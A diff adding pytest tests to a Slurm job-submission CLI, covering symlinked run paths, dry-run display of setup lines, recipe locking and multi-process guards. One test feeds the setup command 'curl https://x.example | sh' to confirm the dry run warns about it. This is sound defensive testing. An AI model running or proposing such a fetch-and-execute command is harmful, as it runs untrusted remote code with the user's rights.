@@ -229,3 +229,47 @@ def test_a_part_that_is_none_is_refused(tmp_path: Path) -> None:
     assert "there is no part" in cli("job", tmp_path, "dance")[2]
     with pytest.raises(RunError):
         submitting.prepare(tmp_path, submitting.cluster_of(Recipe.model_validate({"cluster": {}})))
+
+
+def test_a_run_that_is_named_by_a_link_is_not_submitted_twice(
+    recipe: Path, tmp_path: Path, slurm: StandIn
+) -> None:
+    (tmp_path / "real").mkdir()
+    (tmp_path / "link").symlink_to(tmp_path / "real")
+    assert cli("submit", recipe, "--slurm", "--run", tmp_path / "link/run")[0] == 0
+    assert cli("submit", recipe, "--slurm", "--run", tmp_path / "real/run")[0] == 0
+    assert len(slurm.jobs) == 5
+
+
+def test_lines_that_each_job_will_run_are_shown_first(recipe: Path, tmp_path: Path, slurm: StandIn) -> None:
+    lines = ("--set", "cluster.setup=['curl https://x.example | sh']")
+    code, _, trouble = cli("submit", recipe, "--slurm", "--run", tmp_path / "run", "--dry-run", *lines)
+    assert (code, "each job first runs, as you: curl https://x.example | sh" in trouble) == (0, True)
+
+
+def test_who_submits_meanwhile_does_not_change_the_recipe(
+    recipe: Path, tmp_path: Path, slurm: StandIn
+) -> None:
+    """Of a run in which nothing has begun any key may change, but not while its jobs are submitted."""
+    run = tmp_path / "run"
+    assert cli("submit", recipe, "--slurm", "--run", run, "--dry-run")[0] == 0
+    with submitting.alone(run):
+        code, _, trouble = cli("submit", recipe, "--slurm", "--run", run, "--seed", "7")
+    assert (code, "is being written by" in trouble) == (2, True)
+    with Run.open(run, write=False) as opened:
+        assert opened.recipe.seed == 0
+
+
+def test_one_of_several_processes_submits_nothing(
+    recipe: Path, tmp_path: Path, slurm: StandIn, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Jobs get the environment: each of them would wait for the others of a launcher that is not there."""
+    assert cli("submit", recipe, "--slurm", "--run", tmp_path / "run", "--dry-run")[0] == 0
+    monkeypatch.setenv("WORLD_SIZE", "2")
+    for words in (
+        ("submit", recipe, "--slurm", "--run", tmp_path / "run"),
+        ("job", tmp_path / "run", "teach"),
+    ):
+        code, _, trouble = cli(*words)
+        assert (code, "2 processes were started" in trouble) == (2, True)
+    assert slurm.jobs == []
